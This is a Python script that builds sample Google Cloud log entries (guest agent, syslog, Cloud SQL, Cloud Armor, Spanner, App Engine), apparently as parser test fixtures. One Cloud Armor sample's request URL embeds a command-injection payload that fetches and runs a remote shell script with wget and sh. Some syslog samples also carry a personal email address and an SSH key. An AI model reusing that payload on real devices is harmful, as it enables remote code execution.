"""GCE guest agent, OS Config agent, metadata scripts, serial port, Cloud SQL, Functions gen1, Cloud Armor, Spanner."""
from common import out
E = []
# blaise-slack-alerter tests/test_main.py (index file 23154842514; ONSdigital/blaise-slack-alerter): whole production entries, values unchanged.
E.append(("GCEGuestAgent Error watching metadata invalid character (blaise, file 23154842514)", {
 "insertId": "19s550gfh2251m", "jsonPayload": {"localTimestamp": "2023-09-18T15:12:28.8451+01:00", "message": "Error watching metadata: invalid character '<' looking for beginning of value", "omitempty": None},
 "resource": {"type": "gce_instance", "labels": {"project_id": "ons-blaise-v2-prod", "instance_id": "5203162520768539890", "zone": "europe-west2-a"}},
 "timestamp": "2023-09-18T14:12:28.853979600Z", "severity": "ERROR", "labels": {"instance_name": "blaise-gusty-data-entry-4"},
 "logName": "projects/ons-blaise-v2-prod/logs/GCEGuestAgent",
 "sourceLocation": {"file": "metadata.go", "line": "74", "function": "github.com/GoogleCloudPlatform/guest-agent/google_guest_agent/events/metadata.(*Watcher).Run"},
 "receiveTimestamp": "2023-09-18T14:12:29.912569518Z"}))
E.append(("OSConfigAgent unexpected end of JSON input (blaise, file 23154842514)", {
 "insertId": "ak4u0bf38r70c", "jsonPayload": {"localTimestamp": "2023-05-18T13:22:14.1873+01:00", "omitempty": None, "message": "unexpected end of JSON input"},
 "resource": {"type": "gce_instance", "labels": {"zone": "europe-west2-a", "instance_id": "2340080223918060770", "project_id": "ons-blaise-v2-prod"}},
 "timestamp": "2023-05-18T12:22:14.230839200Z", "severity": "ERROR", "labels": {"instance_name": "restapi-3", "agent_version": "20230330.00.0+win@1"},
 "logName": "projects/ons-blaise-v2-prod/logs/OSConfigAgent", "sourceLocation": {"file": "main.go", "line": "231", "function": "main.runTaskLoop"},
 "receiveTimestamp": "2023-05-18T12:22:16.434926842Z"}))
E.append(("OSConfigAgent LookupEffectiveGuestPolicies NotFound (blaise, file 23154842514)", {
 "insertId": "i1tjpyftm0qks", "jsonPayload": {"message": 'Error running LookupEffectiveGuestPolicies: error calling LookupEffectiveGuestPolicies: code: "NotFound", message: "Requested entity was not found.", details: []', "localTimestamp": "2023-09-28T08:45:35.1241Z", "omitempty": None},
 "resource": {"type": "gce_instance", "labels": {"zone": "europe-west2-a"}},
 "timestamp": "2023-09-28T08:45:35.136331729Z", "severity": "ERROR", "labels": {"instance_name": "rproxy-b0bd8e4b", "agent_version": "20230403.00"},
 "logName": "projects/ons-blaise-v2-prod/logs/OSConfigAgent", "sourceLocation": {"file": "policies.go", "line": "49", "function": "github.com/GoogleCloudPlatform/osconfig/policies.run"},
 "receiveTimestamp": "2023-09-28T08:45:36.225541583Z"}))
E.append(("winevt.raw GCEGuestAgent Error watching metadata (blaise, file 23154842514)", {
 "insertId": "hohgijl11degyrvc0", "jsonPayload": {"user": "", "event_id": "882", "message": "2023/10/10 23:06:39 GCEGuestAgent: Error watching metadata: invalid character '<' looking for beginning of value\r\n", "time_written": "2023-10-10 23:06:39 +0100", "time_generated": "2023-10-10 23:06:39 +0100", "event_type": "error",
  "string_inserts": ["2023/10/10 23:06:39 GCEGuestAgent: Error watching metadata: invalid character '<' looking for beginning of value"], "channel": "application", "source_name": "GCEGuestAgent", "record_number": "2884381", "computer_name": "blaise-gusty-data-entry-1",
  "description": "2023/10/10 23:06:39 GCEGuestAgent: Error watching metadata: invalid character '<' looking for beginning of value\r\n", "event_category": "0"},
 "resource": {"type": "gce_instance", "labels": {"project_id": "ons-blaise-v2-prod", "instance_id": "458491889528639951", "zone": "europe-west2-a"}},
 "timestamp": "2023-10-10T22:06:39Z", "severity": "ERROR", "labels": {"compute.googleapis.com/resource_name": "blaise-gusty-data-entry-1"},
 "logName": "projects/ons-blaise-v2-prod/logs/winevt.raw", "receiveTimestamp": "2023-10-10T22:06:45.651910670Z"}))
E.append(("winevt.raw VstsAgentService Agent connect error (blaise, file 23154842514)", {
 "insertId": "qysctppk7v9cttt1g", "jsonPayload": {"event_id": "100", "event_category": "0", "time_generated": "2023-06-06 15:36:14 +0100", "user": "", "time_written": "2023-06-06 15:36:14 +0100",
  "message": "2023-06-06 14:36:14Z: Agent connect error: The HTTP request timed out after 00:01:00.. Retrying until reconnected.\r\n", "channel": "application", "computer_name": "data-delivery", "event_type": "error",
  "string_inserts": ["2023-06-06 14:36:14Z: Agent connect error: The HTTP request timed out after 00:01:00.. Retrying until reconnected."],
  "description": "2023-06-06 14:36:14Z: Agent connect error: The HTTP request timed out after 00:01:00.. Retrying until reconnected.\r\n", "record_number": "1807900", "source_name": "VstsAgentService"},
 "resource": {"type": "gce_instance", "labels": {"instance_id": "9047556346870592737", "project_id": "ons-blaise-v2-prod", "zone": "europe-west2-a"}},
 "timestamp": "2023-06-06T14:36:14Z", "severity": "ERROR", "labels": {"compute.googleapis.com/resource_name": "data-delivery"},
 "logName": "projects/ons-blaise-v2-prod/logs/winevt.raw", "receiveTimestamp": "2023-06-06T14:36:21.643430478Z"}))
# LogicMonitor's fluent plugin tests (index file 27781995775): whole entries, values unchanged.
E.append(("GCEMetadataScripts startup-script chmod read-only (LogicMonitor fluent test, file 27781995775)", {
 "insertId": "1n469d5g101b4pi", "jsonPayload": {"message": "startup-script: chmod: changing permissions of '/etc/systemd/system/dbus-org.freedesktop.network1.service': Read-only file system", "localTimestamp": "2021-04-28T14:32:03.2422Z"},
 "resource": {"type": "gce_instance", "labels": {"project_id": "development-198123", "zone": "us-central1-c", "instance_id": "7637443554836808513"}},
 "timestamp": "2021-04-28T14:32:03.243408039Z", "severity": "INFO", "logName": "projects/development-198123/logs/GCEMetadataScripts",
 "sourceLocation": {"file": "main.go", "line": "475", "function": "main.main"}, "receiveTimestamp": "2021-04-28T14:32:04.142488955Z"}))
E.append(("serial port BaudRate (LogicMonitor fluent test, file 27781995775)", {
 "textPayload": "BaudRate/Actual (115200/115200) = 100%\r\n", "insertId": "181", "resource": {"type": "gce_instance"},
 "timestamp": "2021-04-28T13:08:27.808628469Z", "labels": {"compute.googleapis.com/resource_name": "gke-standard-cluster-1-a-default-pool-96c859da-e9e7"},
 "logName": "projects/development-198123/logs/serialconsole.googleapis.com%2Fserial_port_1_output", "receiveTimestamp": "2021-04-28T13:08:29.563802575Z"}))
E.append(("cloud_function gen1 Function execution took ok (LogicMonitor fluent test, file 27781995775)", {
 "textPayload": "Function execution took 200 ms, finished with status: 'ok'", "insertId": "000000-d8f6e03b-271c-4c7d-9780-4c63d37ccda7",
 "resource": {"type": "cloud_function", "labels": {"function_name": "testfunctionlogsToPubsub", "region": "asia-south1", "project_id": "logicmonitor.com:api-project-650342240768"}},
 "timestamp": "2021-04-15T06:14:10.997438123Z", "severity": "DEBUG", "labels": {"execution_id": "d4mdjbva6jz2"},
 "logName": "projects/logicmonitor.com:api-project-650342240768/logs/cloudfunctions.googleapis.com%2Fcloud-functions",
 "trace": "projects/logicmonitor.com:api-project-650342240768/traces/72e2cdf9e92a630b981f61e9e498f2e0", "receiveTimestamp": "2021-04-08T09:59:25.195011779Z"}))
E.append(("cloudsql mysql.err semisync ERROR (LogicMonitor fluent test, file 27781995775)", {
 "textPayload": "2021-04-27T14:34:16.352086Z 0 [ERROR] Could not successfully notify external app of semisync status change before timeout.",
 "insertId": "s=0f48625de67a4c96a1b506ffc3851ca5;i=1e47;b=1d5c153c19964ece83df6787dd571159;m=74f53eb;t=5c0f528216aa5;x=be395e5383cf012f-0-0@a1",
 "resource": {"type": "cloudsql_database", "labels": {"region": "asia", "database_id": "development-198123:rwaver-sql-1", "project_id": "development-198123"}},
 "timestamp": "2021-04-27T14:34:16.352421Z", "severity": "ERROR", "logName": "projects/development-198123/logs/cloudsql.googleapis.com%2Fmysql.err", "receiveTimestamp": "2021-04-27T14:34:17.079988744Z"}))
E.append(("cloudsql mysql.err Permission monitoring.timeSeries.create denied (LogicMonitor fluent test, file 27781995775)", {
 "textPayload": "Permission monitoring.timeSeries.create denied (or the resource may not exist)",
 "insertId": "s=eec12ab3a95840a99afd10c76b210343;i=1deb;b=5db8d88851ef4e938abe5374adb7ccab;m=71f6a52;t=5c105a0054e03;x=dfabe513f9cebad8-0-0@a1",
 "resource": {"type": "cloudsql_database", "labels": {"project_id": "development-198123", "region": "us-central", "database_id": "development-198123:testmysqllogstolm"}},
 "timestamp": "2021-04-28T10:13:07.252739Z", "severity": "INFO", "logName": "projects/development-198123/logs/cloudsql.googleapis.com%2Fmysql.err", "receiveTimestamp": "2021-04-28T10:13:08.349276124Z"}))

# syslog lines (theirs) in the Ops Agent's default syslog entry (ours): jsonPayload.message the whole line, no severity.
def syslog(name, line, inst="my-vm"):
    return (name, {"insertId": "r6sys-" + str(abs(hash(line)) % 10**8), "jsonPayload": {"message": line},
      "resource": {"type": "gce_instance", "labels": {"project_id": "my-project", "instance_id": "1234567890123456789", "zone": "europe-west1-b"}},
      "labels": {"compute.googleapis.com/resource_name": inst}, "logName": "projects/my-project/logs/syslog",
      "timestamp": "2026-12-07T10:00:00.123Z", "receiveTimestamp": "2026-12-07T10:00:01Z"})
E.append(syslog("syslog google_metadata_script_runner startup-script VPN details (file 22533909700)", "Oct 16 14:34:59 deel-app-cluster-bastion google_metadata_script_runner[491]: startup-script: Connect to your new VPN with these details:", "deel-app-cluster-bastion"))
E.append(syslog("syslog google_metadata_script_runner startup-script Server IP (file 22533909700)", "Oct 16 14:34:59 deel-app-cluster-bastion google_metadata_script_runner[491]: startup-script: Server IP: 35.207.89.211", "deel-app-cluster-bastion"))
E.append(syslog("syslog google_guest_agent Updating keys (file 59098860344)", "May 25 08:36:19 misskey-bots-group-numbertales google_guest_agent[49969]: Updating keys for user github-actions-deploy.", "misskey-bots-group-numbertales"))
E.append(syslog("syslog gpasswd added to group netdev (file 59098860344)", "May 25 08:36:19 misskey-bots-group-numbertales gpasswd[60451]: user github-actions-deploy added by root to group netdev", "misskey-bots-group-numbertales"))
E.append(syslog("syslog gpasswd added to group google-sudoers (file 59098860344)", "May 25 08:36:19 misskey-bots-group-numbertales gpasswd[60463]: user github-actions-deploy added by root to group google-sudoers", "misskey-bots-group-numbertales"))
E.append(syslog("syslog google_guest_agent expired ssh key (file 45419659018)", 'Feb 13 09:04:44 minecraft-240214 google_guest_agent[478]: ERROR non_windows_accounts.go:217 invalid ssh key entry - expired key: crispylegs1921:ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBGm76lvbodkUSjC9IvhI/LjRt0Q9z0qe2lWCTl3JFaJedFRkAIeU5D6R2Fd12aMBQxyNA0kQWS8drSKLj3tTk54= google-ssh {"userName":"crispylegs1921@gmail.com","expireOn":"2024-02-13T08:23:15+0000"}', "minecraft-240214"))

# Cloud Armor: Sekoia.io's documentation "Raw Events Samples" (index file 28646665785), whole entries, values as there (anonymised by them).
E.append(("armor THROTTLE conform 503 failed_to_pick_backend regional (Sekoia docs, file 28646665785)", {
 "httpRequest": {"latency": "0.001115s", "protocol": "HTTP/1.1", "remoteIp": "1.2.3.4:49194", "requestMethod": "GET", "requestSize": "201",
  "requestUrl": "http://5.6.7.8:80/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F1.1.1.1%3A88%2Ft%7Csh%3B%60)", "responseSize": "155", "status": 503, "userAgent": "Go-http-client/1.1"},
 "insertId": "1t7m3mbf14kc7c", "jsonPayload": {"@type": "type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry", "backendTargetProjectNumber": "projects/111111111111",
  "enforcedSecurityPolicy": {"configuredAction": "THROTTLE", "name": "policy-name", "outcome": "ACCEPT", "priority": 2147483646, "rateLimitAction": {"key": "1.2.3.4", "outcome": "RATE_LIMIT_THRESHOLD_CONFORM"}},
  "proxyStatus": "error=\"destination_unavailable\"; details=\"failed_to_pick_backend\""},
 "logName": "projects/integration-gcloadbalancing/logs/loadbalancing.googleapis.com%2Fexternal_regional_requests", "receiveTimestamp": "2024-08-26T15:30:31.15568806Z",
 "resource": {"labels": {"backend_name": "", "backend_scope": "UNKNOWN", "backend_scope_type": "UNKNOWN", "backend_target_name": "backend-name", "backend_target_type": "BACKEND_SERVICE", "backend_type": "UNKNOWN", "forwarding_rule_name": "forwarding_rule-name", "matched_url_path_rule": "UNMATCHED", "network_name": "default", "project_id": "integration-gcloadbalancing", "region": "europe-west9", "target_proxy_name": "proxy-name", "url_map_name": "url_map-name"}, "type": "http_external_regional_lb_rule"},
 "severity": "WARNING", "timestamp": "2024-08-26T15:30:27.62577Z"}))
E.append(("armor ALLOW accepted 200 (Sekoia docs, file 28646665785)", {
 "httpRequest": {"latency": "0.006023s", "remoteIp": "1.2.3.4", "requestMethod": "GET", "requestSize": "1012", "requestUrl": "https://example.org/api-services/api/ping", "responseSize": "307", "serverIp": "5.6.7.8", "status": 200, "userAgent": "Apache-HttpClient/5.2.1 (Java/21.0.1)"},
 "insertId": "1t7m3mbf14kc7c", "jsonPayload": {"@type": "type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry", "backendTargetProjectNumber": "projects/12345678", "cacheDecision": ["RESPONSE_HAS_CONTENT_TYPE", "REQUEST_HAS_AUTHORIZATION", "CACHE_MODE_USE_ORIGIN_HEADERS"],
  "enforcedSecurityPolicy": {"configuredAction": "ALLOW", "name": "cloud-armor-rule-policy-name-01", "outcome": "ACCEPT", "priority": 2147483647}, "remoteIp": "1.2.3.4",
  "securityPolicyRequestData": {"remoteIpInfo": {"regionCode": "BE"}, "tlsJa3Fingerprint": "c691c8ec005d3a6a8aafc394edf6c1a3"}, "statusDetails": "response_sent_by_backend"},
 "logName": "projects/google-project/logs/requests", "receiveTimestamp": "2024-02-20T15:03:01.755764847Z",
 "resource": {"labels": {"backend_service_name": "google-project-backend-03", "forwarding_rule_name": "google-project-ip-pub-03", "project_id": "google-project", "target_proxy_name": "google-project-lb-03-target-proxy", "url_map_name": "google-project-lb-03", "zone": "global"}, "type": "http_load_balancer"},
 "severity": "INFO", "spanId": "74f69181f79f8236", "timestamp": "2024-02-20T15:03:00.867759Z", "trace": "projects/google-project/traces/ff592ffa0c72bac07e758a3851fd44f5"}))
E.append(("armor DENY denied 403 (Sekoia docs, file 28646665785)", {
 "insertId": "tyvh8vfi0k1di", "jsonPayload": {"remoteIp": "1.2.3.4", "backendTargetProjectNumber": "projects/123456789", "@type": "type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry", "statusDetails": "denied_by_security_policy",
  "cacheDecision": ["RESPONSE_HAS_CONTENT_TYPE", "REQUEST_HAS_IF_NONE_MATCH", "CACHE_MODE_USE_ORIGIN_HEADERS"], "enforcedSecurityPolicy": {"priority": 1000, "outcome": "DENY", "configuredAction": "DENY", "name": "block-all-http-requests"}},
 "httpRequest": {"requestMethod": "GET", "requestUrl": "http://malicious.site/url", "requestSize": "488", "status": 403, "responseSize": "258", "userAgent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "remoteIp": "1.2.3.4", "latency": "0.102957s"},
 "resource": {"type": "http_load_balancer", "labels": {"target_proxy_name": "http-lb-proxy", "project_id": "project_id", "zone": "global", "url_map_name": "http-load-balancer", "forwarding_rule_name": "http-content-rule", "backend_service_name": "backend-service"}},
 "timestamp": "2023-12-25T07:17:32.061039Z", "severity": "WARNING", "logName": "projects/project_id/logs/requests", "trace": "projects/project_id/traces/15dc480f7c7879c404b6b33843099866", "receiveTimestamp": "2023-12-25T07:17:33.457621996Z", "spanId": "25c549956d7c28e2"}))
# The jsonPayload of a real 429 rate-based ban in a Go test (index file 59112735388); the rest of the entry ours (GET / 429, the LB resource).
E.append(("armor RATE_BASED_BAN 429 (Go test 'real cloud-armor 429 log evidence', file 59112735388; entry ours)", {
 "insertId": "r6-armor-ban", "jsonPayload": {"@type": "type.googleapis.com/google.cloud.loadbalancing.type.LoadBalancerLogEntry",
  "enforcedSecurityPolicy": {"configuredAction": "RATE_BASED_BAN", "name": "production-cbp-armor-policy", "outcome": "DENY", "priority": 199, "rateLimitAction": {"outcome": "BAN_THRESHOLD_EXCEED"}},
  "remoteIp": "20.89.250.108", "securityPolicyRequestData": {"remoteIpInfo": {"asn": 8075, "regionCode": "JP"}}, "statusDetails": "denied_by_security_policy"},
 "httpRequest": {"requestMethod": "GET", "requestUrl": "https://shop.example.com/", "status": 429, "remoteIp": "20.89.250.108"},
 "resource": {"type": "http_load_balancer", "labels": {"project_id": "my-project", "zone": "global", "url_map_name": "lb", "forwarding_rule_name": "fr", "backend_service_name": "backend-service", "target_proxy_name": "tp"}},
 "timestamp": "2026-12-07T10:00:00Z", "severity": "WARNING", "logName": "projects/my-project/logs/requests", "receiveTimestamp": "2026-12-07T10:00:01Z"}))

# Spanner: the streaming request's first and last audit entries of Google's documentation
# (https://cloud.google.com/spanner/docs/audit-logging-request-latency-guide, CC BY 4.0); folded {...} parts left out, resource filled.
SP_RES = {"type": "spanner_instance", "labels": {"project_id": "example-project", "instance_id": "example-instance", "location": "us-central1", "instance_config": ""}}
for which, extra in (("first", {"request": {"session": "projects/example-project/instances/example-instance/databases/example-database/sessions/example-session", "requestOptions": {}, "sql": "SELECT COUNT(*) as count FROM Example_table WHERE Example_Column > @timestamp", "@type": "type.googleapis.com/google.spanner.v1.ExecuteSqlRequest", "queryOptions": {}}}), ("last", {})):
    pp = {"@type": "type.googleapis.com/google.cloud.audit.AuditLog", "requestMetadata": {"requestAttributes": {"time": "2023-02-27T16:57:40.552952297Z"}, "destinationAttributes": {}},
          "serviceName": "spanner.googleapis.com", "methodName": "google.spanner.v1.Spanner.ExecuteStreamingSql",
          "resourceName": "projects/example-project/instances/example-instance/databases/example-database/sessions/example-session"}
    pp.update(extra)
    pp["metadata"] = {"@type": "type.googleapis.com/spanner.cloud.instance_v1.QueryPerformanceMetadata", "responseTimestamp": "2023-02-27T16:57:40.555730699Z"}
    op = {"id": "15327696495839874591", "producer": "spanner.googleapis.com", which: True}
    E.append((f"spanner data_access ExecuteStreamingSql {which} (Google docs, audit-logging-request-latency-guide)", {
      "protoPayload": pp, "insertId": "h7fj0jei6597" if which == "first" else "h7fj0jei6598", "resource": SP_RES, "timestamp": "2023-02-27T16:57:40.552391554Z",
      "severity": "INFO", "logName": "projects/example-project/logs/cloudaudit.googleapis.com%2Fdata_access", "operation": op, "receiveTimestamp": "2023-02-27T16:57:41.507770020Z"}))
out("gce", E)
# App Engine standard request log with an app log line: gcp_log_grouper's README (index file 3990548856), a "Download logs (JSON)" export;
# its protoPayload as shown there (the "..." of further lines left out), the rest of the entry ours (module "service" from the export's file name).
E2 = [("gae request_log line access_logger Start request 500 (file 3990548856)", {
 "protoPayload": {"@type": "type.googleapis.com/google.appengine.logging.v1.RequestLog", "versionId": "1",
   "requestId": "5d0b579700ff06cb6bc8a5d5f20001737e6f64696e2d6578740001736572766963653a31000100", "ip": "35.195..",
   "startTime": "2019-06-20T09:53:27.445291Z", "endTime": "2019-06-20T09:53:27.669205Z", "method": "DELETE", "resource": "/auxapi/v0/company/VA-260-680/", "status": 500,
   "line": [{"time": "2019-06-20T09:53:27.453428Z", "severity": "ERROR", "logMessage": "2019-06-20 09:53:27,453 access_logger INFO Start request DELETE /auxapi/v0/company/VA-260-680/ (95dc1d02-6231-4f64-87e7-d40094f0e845)"}],
   "traceId": "1f871092b15a3a1f37a2b88f5471b61a"},
 "resource": {"type": "gae_app", "labels": {"project_id": "my-project", "module_id": "service", "version_id": "1", "zone": "europe-west1-1"}},
 "logName": "projects/my-project/logs/appengine.googleapis.com%2Frequest_log", "severity": "ERROR",
 "timestamp": "2019-06-20T09:53:27.445291Z", "receiveTimestamp": "2019-06-20T09:53:28Z", "insertId": "r6-gae-1"})]
out("gae", E2)
